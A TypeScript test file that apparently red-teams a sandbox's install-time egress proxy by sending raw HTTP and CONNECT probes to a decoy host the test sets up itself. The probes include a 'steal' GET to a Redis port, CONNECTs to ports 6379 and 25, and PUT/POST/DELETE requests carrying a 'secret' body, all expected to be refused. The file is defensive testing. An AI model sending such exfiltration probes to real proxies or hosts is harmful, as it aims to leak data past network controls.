import { connectDocker } from '../../src/sandbox/docker.js';
import { withInstallNetwork, type InstallNetwork } from '../../src/sandbox/egress/egress.js';
import { egressSettings } from '../../src/sandbox/egress/egressConfig.js';
import { ensureBaseImage, loadCaBundle } from '../../src/sandbox/index.js';
import { containerLabels } from '../../src/sandbox/containers/limits.js';
import { logger } from '../../src/util/logger.js';
import { expectNothingLeftBehind, networksOfOurs } from '../helpers/docker.js';

/**
 * The install step's egress proxy, attacked from an install network. The target is a decoy of this
 * test's own (plain HTTP on 80, 443 and 6379), on a network the test creates, which the proxy joins
 * on its outside: the decoy is allowlisted by name (SWT_EGRESS_ALLOW), so what the proxy refuses it
 * refuses for the port or the method, not the host. A control request shows the decoy answers.
 */

const docker = connectDocker();
const DECOY = `decoy-${process.pid}.redteam.test`;
const settings = egressSettings({ ...process.env, SWT_EGRESS_ALLOW: DECOY });
let python: string;
let node: string;
let decoyNet: string;
let decoyId: string;

beforeAll(async () => {
  const caBundle = await loadCaBundle();
  python = await ensureBaseImage('python:3.11', { docker, caBundle });
  node = await ensureBaseImage('node:22', { docker, caBundle });
  decoyNet = (await docker.createNetwork({ Name: `swt-redteam-decoy-${process.pid}`, Driver: 'bridge', Labels: containerLabels('probe') })).id;
  const serve = (port: number) => `python3 -u -m http.server ${port} 2>&1 | sed -u 's/^/[${port}] /' &`;
  const c = await docker.createContainer({
    Image: python,
    Entrypoint: [],
    Cmd: ['sh', '-c', `${serve(80)} ${serve(443)} ${serve(6379)} wait`],
    User: '0:0',
    Tty: true,
    Labels: containerLabels('probe'),
    HostConfig: { NetworkMode: decoyNet },
    NetworkingConfig: { EndpointsConfig: { [decoyNet]: { Aliases: [DECOY] } } },
  } as object);
  decoyId = c.id;
  await c.start();
  // The three servers are up before any probe (a loaded machine starts python slowly; squid answers 503 until then).
  for (let i = 0; ; i++) {
    const ready = (await decoyLog()).match(/Serving HTTP on \S+ port (80|443|6379)\b/g) ?? [];
    if (ready.length >= 3) break;
    if (i === 599) throw new Error(`the decoy did not start: ${await decoyLog()}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}, 600_000);

afterAll(async () => {
  if (decoyId) await docker.getContainer(decoyId).remove({ force: true });
  if (decoyNet) await docker.getNetwork(decoyNet).remove();
  expectNothingLeftBehind();
  expect(networksOfOurs()).toBe('');
});

const decoyLog = async () => String(await docker.getContainer(decoyId).logs({ stdout: true, stderr: true }));

/** Runs a probe (python or a shell command) in a container on the install network, as an install would be. */
async function probe(net: InstallNetwork, image: string, cmd: string[]): Promise<string> {
  const c = await docker.createContainer({ Image: image, Entrypoint: [], Cmd: cmd, User: '1000:1000', Tty: true, Env: net.env, Labels: containerLabels('probe'), HostConfig: { NetworkMode: net.network } });
  try {
    await c.start();
    await c.wait();
    return String(await c.logs({ stdout: true, stderr: true }));
  } finally {
    await c.remove({ force: true });
  }
}

/** Sends raw requests to the proxy; prints each request line and the status line the proxy answered. */
const RAW = (proxy: URL, requests: string[]) => [
  'python3',
  '-c',
  `import socket, json
for raw in json.loads(${JSON.stringify(JSON.stringify(requests))}):
    try:
        s = socket.create_connection((${JSON.stringify(proxy.hostname)}, ${proxy.port}), timeout=20)
        s.sendall(raw.encode())
        line = s.recv(4096).decode(errors="replace").split("\\r\\n")[0]
        s.close()
    except Exception as e:
        line = "ERROR " + repr(e)
    print(raw.split("\\r\\n")[0], "=>", line, flush=True)`,
];

/** Inside one install network, with the proxy joined to the decoy's network on its outside. */
async function withProxy<T>(fn: (net: InstallNetwork) => Promise<T>): Promise<T> {
  return withInstallNetwork(docker, settings, logger, async (net) => {
    const [proxy] = await docker.listContainers({ filters: { label: ['swt-bot.role=egress-proxy', `swt-bot.pid=${process.pid}`] } });
    await docker.getNetwork(decoyNet).connect({ Container: proxy!.Id });
    try {
      return await fn(net);
    } finally {
      await docker.getNetwork(decoyNet).disconnect({ Container: proxy!.Id, Force: true });
    }
  });
}

const answers = (out: string) => Object.fromEntries(out.trim().split(/\r?\n/).map((l) => l.split(' => ') as [string, string]));

describe('the egress proxy', () => {
  it('attack: plain HTTP and CONNECT to an allowed host on another port (a Redis, an SMTP server)', async () => {
    await withProxy(async (net) => {
      const out = await probe(net, python, RAW(new URL(net.proxyUrl), [
        `GET http://${DECOY}/control HTTP/1.1\r\nHost: ${DECOY}\r\n\r\n`,
        `CONNECT ${DECOY}:443 HTTP/1.1\r\nHost: ${DECOY}:443\r\n\r\n`,
        `GET http://${DECOY}:6379/steal HTTP/1.1\r\nHost: ${DECOY}:6379\r\n\r\n`,
        `CONNECT ${DECOY}:6379 HTTP/1.1\r\nHost: ${DECOY}:6379\r\n\r\n`,
        `CONNECT ${DECOY}:25 HTTP/1.1\r\nHost: ${DECOY}:25\r\n\r\n`,
      ]));
      const a = answers(out);
      // Controls: the decoy answers through the proxy on the allowed ports (404 from http.server; a tunnel to 443).
      expect(a[`GET http://${DECOY}/control HTTP/1.1`]).toMatch(/^HTTP\/1\.1 404/);
      expect(a[`CONNECT ${DECOY}:443 HTTP/1.1`]).toMatch(/^HTTP\/1\.1 200/);
      expect(a[`GET http://${DECOY}:6379/steal HTTP/1.1`]).toMatch(/^HTTP\/1\.1 403/);
      expect(a[`CONNECT ${DECOY}:6379 HTTP/1.1`]).toMatch(/^HTTP\/1\.1 403/);
      expect(a[`CONNECT ${DECOY}:25 HTTP/1.1`]).toMatch(/^HTTP\/1\.1 403/);
    });
    const log = await decoyLog();
    expect(log).toContain('"GET /control HTTP/1.1" 404');
    expect(log).not.toMatch(/^\[6379\] .*"/m);
    expect(log).not.toContain('/steal');
  });

  it('attack: PUT (and POST, DELETE) to an allowed host, a way to publish data out', async () => {
    await withProxy(async (net) => {
      const req = (m: string) => `${m} http://${DECOY}/upload HTTP/1.1\r\nHost: ${DECOY}\r\nContent-Length: 6\r\n\r\nsecret`;
      const a = answers(await probe(net, python, RAW(new URL(net.proxyUrl), [req('PUT'), req('POST'), req('DELETE'), req('HEAD').replace('Content-Length: 6\r\n\r\nsecret', '\r\n')])));
      expect(a[`PUT http://${DECOY}/upload HTTP/1.1`]).toMatch(/^HTTP\/1\.1 403/);
      expect(a[`POST http://${DECOY}/upload HTTP/1.1`]).toMatch(/^HTTP\/1\.1 403/);
      expect(a[`DELETE http://${DECOY}/upload HTTP/1.1`]).toMatch(/^HTTP\/1\.1 403/);
      // HEAD, like GET, reaches it.
      expect(a[`HEAD http://${DECOY}/upload HTTP/1.1`]).toMatch(/^HTTP\/1\.1 404/);
    });
    const log = await decoyLog();
    expect(log).not.toMatch(/"(PUT|POST|DELETE) /);
    expect(log).toContain('"HEAD /upload HTTP/1.1" 404');
  });

  it('a registry client still works through it (npm view over CONNECT to registry.npmjs.org:443)', async () => {
    const out = await withProxy((net) => probe(net, node, ['sh', '-c', 'cd /tmp && npm view is-number@7.0.0 version --cache /tmp/npm-cache > /tmp/v; cat /tmp/v']));
    expect(out).toMatch(/^7\.0\.0\s*$/m);
  });
});
